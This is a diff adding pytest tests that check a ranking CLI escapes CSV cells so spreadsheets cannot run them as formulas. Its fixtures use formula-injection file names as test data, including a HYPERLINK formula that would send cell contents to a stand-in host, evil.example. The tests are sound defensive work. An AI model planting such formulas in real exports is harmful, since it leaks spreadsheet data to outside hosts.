@@ -5,6 +5,7 @@ and a killed write leaves nothing behind for long."""
 from __future__ import annotations
 
 import contextlib
+import csv
 import errno
 import json
 import os
@@ -298,6 +299,76 @@ def test_embed_never_overwrites_unless_forced(photos: Path, tmp_path: Path) -> N
     status, _, stderr = cli(*args, "--force")
     assert status == 0, stderr
     assert np.load(out)["feats"].shape == (6, 64)
+
+
+# ----------------------------------------------------------------------------- CSV cells
+
+
+def _formula_cells(path: Path) -> list[str]:
+    """Cells of a CSV file that a spreadsheet would evaluate (numbers excepted)."""
+    with open(path, newline="", encoding="utf-8") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    bad = []
+    for cell in cells:
+        if cell[:1] in ("=", "+", "-", "@"):
+            try:
+                float(cell)
+            except ValueError:
+                bad.append(cell)
+    return bad
+
+
+def test_csv_cells_cannot_run_as_formulas(photos: Path, tmp_path: Path) -> None:
+    checkpoint = tiny_checkpoint(tmp_path / "tiny.pt")
+    out = tmp_path / "ranked.csv"
+    status, _, stderr = cli(
+        "rank",
+        str(checkpoint),
+        str(photos),
+        "--out",
+        str(out),
+        "--reference",
+        str(photos),
+        "--k",
+        "2",
+        "--no-cache",
+    )
+    assert status == 0, stderr
+    assert _formula_cells(out) == []
+    table = pd.read_csv(out)
+    assert set(table["id"]) == {
+        '\'=HYPERLINK("evil.example?"&A1).png',
+        "'+SUM(A1).png",
+        "'-2+3.png",
+        "'@cmd.png",
+        "plain.png",
+        "'-1.png",
+    }
+    assert (table["score_knn"] <= 0).all()  # negative numbers stay numbers
+    assert table["dataset"].eq("'=cmd").all()
+    parquet = tmp_path / "ranked.parquet"
+    assert (
+        cli("rank", str(checkpoint), str(photos), "--out", str(parquet), "--no-sheet", "--no-cache")[0] == 0
+    )
+    assert '=HYPERLINK("evil.example?"&A1).png' in set(
+        pd.read_parquet(parquet)["id"]
+    )  # Parquet keeps the names
+
+
+def test_results_tables_cannot_run_as_formulas(
+    shared: tuple[Path, Path, Path, str], photos: Path, tmp_path: Path
+) -> None:
+    checkpoint, _, cache, _ = shared
+    out = tmp_path / "res"
+    status, _, stderr = cli(
+        *analyze_args(checkpoint, out, cache, "--quiet", "--no-report", "--ood", str(photos))
+    )
+    assert status == 0, stderr
+    tables = sorted((out / "tables").glob("*.csv"))
+    assert tables and all(_formula_cells(t) == [] for t in tables)
+    assert "'=cmd/folder" in set(read_results(out).table("ood")["ood_set"])
+    samples = read_results(out).samples
+    assert '=HYPERLINK("evil.example?"&A1).png' in set(samples["id"])  # samples.parquet keeps the names
 
 
 # ----------------------------------------------------------------------------- killed writes
